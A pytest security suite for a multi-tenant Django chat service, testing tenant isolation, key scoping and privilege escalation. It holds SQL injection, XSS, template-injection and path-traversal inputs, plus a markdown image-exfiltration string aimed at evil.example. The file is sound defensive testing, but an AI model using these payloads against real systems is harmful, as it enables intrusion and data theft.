"""Holes that others had to publish advisories for, tried here. Every refusal stands beside what its owner may."""

from collections.abc import Callable
from uuid import uuid4

import pytest
from django.test import Client

from apps.accounts.models import User
from apps.markdown import render
from apps.tenants import services as tenants
from apps.tenants.contracts import Principal, Scope
from apps.tenants.models import Membership, Tenant
from tests.isolation.attack import Ground
from tests.people import new_address, new_member

KeyOf = Callable[[Principal], str]


def program(key: str, **headers: str) -> Client:
    return Client(REMOTE_ADDR=new_address(), headers={"Authorization": f"Bearer {key}", **headers})


def test_a_foreign_stream_cannot_be_followed_or_cancelled(ground: type[Ground]) -> None:
    turn = ground.victim.finished
    assert turn is not None
    for stream in (turn.turn_id, turn.generations[0].generation_id):
        path = f"/v1/chat/streams/{stream}"
        mine, foreign = ground.product.call(ground.victim.call("GET", path), ground.attacker.call("GET", path))
        assert (mine.status, foreign.status) == (200, 404)
        assert ground.victim.canary.encode() in mine.told and ground.victim.canary.encode() not in foreign.told
    assert ground.victim.queued is not None
    path = f"/v1/chat/generations/{ground.victim.queued.generations[0].generation_id}/cancel"
    (foreign,) = ground.product.call(ground.attacker.call("POST", path))
    (mine,) = ground.product.call(ground.victim.call("POST", path))
    assert (foreign.status, mine.status) == (404, 202)


def test_a_foreign_stream_cannot_be_subscribed_to_on_a_socket(ground: type[Ground]) -> None:
    assert ground.victim.finished is not None
    stream = str(ground.victim.finished.generations[0].generation_id)
    heard = {}
    for side in (ground.victim, ground.attacker):
        token = side.credentials["key"][0]["Authorization"].removeprefix("Bearer ")
        messages = [{"type": "auth", "token": token}, {"type": "subscribe", "stream": stream, "after": None}]
        heard[side.name] = ground.product.socket({}, messages)
    assert ground.victim.canary in repr(heard["a"])
    assert ground.victim.canary not in repr(heard["b"])
    assert [one["status"] for one in heard["b"] if one["type"] == "error"] == [404]


def test_a_foreign_conversation_cannot_be_written_to(ground: type[Ground]) -> None:
    assert ground.victim.finished is not None
    body = {"message": "x", "models": ["probe"], "conversation_id": str(ground.victim.finished.conversation_id)}
    (foreign,) = ground.product.call(ground.attacker.call("POST", "/v1/chat/messages", json=body))
    (mine,) = ground.product.call(ground.victim.call("POST", "/v1/chat/messages", json=body))
    assert (foreign.status, mine.status) == (404, 202)


@pytest.mark.parametrize(
    "change", [{"role": "owner"}, {"tenant_id": str(uuid4())}, {"is_staff": True}, {"requests_per_minute": 10_000}]
)
@pytest.mark.parametrize("path", ["/api/v1/accounts/me/", "/api/v1/tenant/", "/api/v1/members/{membership}/"])
def test_nobody_promotes_themselves(bob: Principal, api_key_of: KeyOf, path: str, change: dict[str, object]) -> None:
    membership = Membership.objects.using("engine").get(user_id=bob.user_id, tenant_id=bob.tenant_id)
    path = path.format(membership=membership.id)
    for method in ("patch", "put", "post"):
        answered = getattr(program(api_key_of(bob)), method)(path, change, content_type="application/json")
        assert answered.status_code in (403, 404, 405), (method, answered.status_code)
    after = Membership.objects.using("engine").get(id=membership.id)
    assert (after.role, after.tenant_id) == ("member", bob.tenant_id)
    assert not User.objects.get(id=bob.user_id).is_staff


@pytest.mark.parametrize("header", ["Authorization", "X-Api-Key"])
def test_a_restricted_key_opens_the_same_doors_by_every_header(alice: Principal, header: str) -> None:
    secret = tenants.create_api_key(alice, "narrow", scopes=[Scope.CHAT]).secret
    sent = {header: f"Bearer {secret}" if header == "Authorization" else secret}
    client = Client(REMOTE_ADDR=new_address(), headers=sent)
    assert client.get("/v1/models").status_code == 200
    for path in ("/api/v1/conversations/", "/api/v1/api-keys/", "/api/v1/accounts/me/"):
        assert client.get(path).status_code == 403, path
    for path in ("//api/v1/api-keys/", "/v1/../api/v1/api-keys/", "/v1/%2e%2e/api/v1/api-keys/"):
        assert client.get(path).status_code in (403, 404), path


def test_no_key_is_wider_than_who_makes_it(
    alice: Principal, bob: Principal, client_of: Callable[[Principal], Client]
) -> None:
    narrow = tenants.create_api_key(alice, "narrow", scopes=[Scope.MANAGE]).secret
    for scopes in ([], ["chat"], ["chat", "manage"], ["manage"]):
        answered = program(narrow).post("/api/v1/api-keys/", {"name": "made", "scopes": scopes}, "application/json")
        assert answered.status_code == 403, scopes
    for principal, scopes, status in ((bob, ["manage"], 201), (bob, ["scim"], 403), (alice, ["scim"], 201)):
        made = client_of(principal).post("/api/v1/api-keys/", {"name": "made", "scopes": scopes}, "application/json")
        assert made.status_code == status, (principal.role, scopes, made.content)


@pytest.mark.parametrize(
    "value", ["' OR '1'='1", "'; DROP TABLE tenants_apikey; --", "sb-' OR 1=1 --", '"', "%", "\\'", "a" * 9000]
)
@pytest.mark.parametrize("header", ["Authorization", "X-Api-Key", "X-Switchboard-Tenant", "X-Request-Id", "Cookie"])
def test_metacharacters_in_headers_are_text(header: str, value: str) -> None:
    sent = f"Bearer {value}" if header == "Authorization" else f"sessionid={value}" if header == "Cookie" else value
    answered = Client(REMOTE_ADDR=new_address(), headers={header: sent}).get("/api/v1/accounts/me/")
    assert answered.status_code == 401, answered.content[:200]


@pytest.mark.parametrize(
    "header",
    [
        "X-Forwarded-User",
        "Remote-User",
        "X-Remote-User",
        "X-Forwarded-Email",
        "X-Tenant-Id",
        "X-User-Id",
        "X-Auth-Request-Email",
    ],
)
def test_forged_identity_headers_are_nobodys(alice: Principal, bob: Principal, api_key_of: KeyOf, header: str) -> None:
    forged = {header: alice.user_email if "mail" in header or "ser" in header else str(alice.tenant_id)}
    assert Client(REMOTE_ADDR=new_address(), headers=forged).get("/api/v1/accounts/me/").status_code == 401
    told = program(api_key_of(bob), **forged).get("/api/v1/accounts/me/").json()
    assert alice.user_email not in str(told) and bob.user_email in str(told)


@pytest.mark.parametrize("token", [None, "", " ", "null", "undefined", "0", "-", "set-password"])
def test_an_empty_reset_token_resets_nothing(alice: Principal, token: str | None) -> None:
    """Whatever path the reset has or will have: none of these changes the password."""
    before = User.objects.get(id=alice.user_id).password
    client = Client(REMOTE_ADDR=new_address())
    body = {"email": alice.user_email, "token": token, "key": token, "uid": str(alice.user_id)}
    body |= {
        "password": "another long password",
        "password1": "another long password",
        "password2": "another long password",
    }
    for path in ("/password/reset/", f"/password/reset/key/{token}/", f"/accounts/password/reset/key/1-{token}/"):
        client.post(path, {name: value for name, value in body.items() if value is not None})
    assert User.objects.get(id=alice.user_id).password == before


def test_images_in_an_answer_fetch_nothing_from_elsewhere() -> None:
    leak = "![x](https://evil.example/?q=secret) <img src=https://evil.example/> [![y](//evil.example/z)](https://a.example)"
    html = render(leak)
    assert "<img" not in html.lower() or "evil.example" not in html.split("<img", 1)[1].split(">", 1)[0]


@pytest.mark.parametrize(
    "text", ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "{{7*7}}"]
)
def test_html_in_names_and_titles_is_text(
    client_of: Callable[[Principal], Client], alice: Principal, text: str
) -> None:
    Tenant.objects.using("engine").filter(id=alice.tenant_id).update(name=text)
    member = new_member(alice, "Bob")
    User.objects.using("engine").filter(id=member.user_id).update(name=text)
    browser = client_of(alice)
    for path in ("/chat/", "/settings/keys/", "/settings/workspace/"):
        page = browser.get(path).content.decode()
        assert "<html" in page and "{{7*7}}".replace("7*7", "49") not in page
        if "<" in text:
            assert text not in page, path
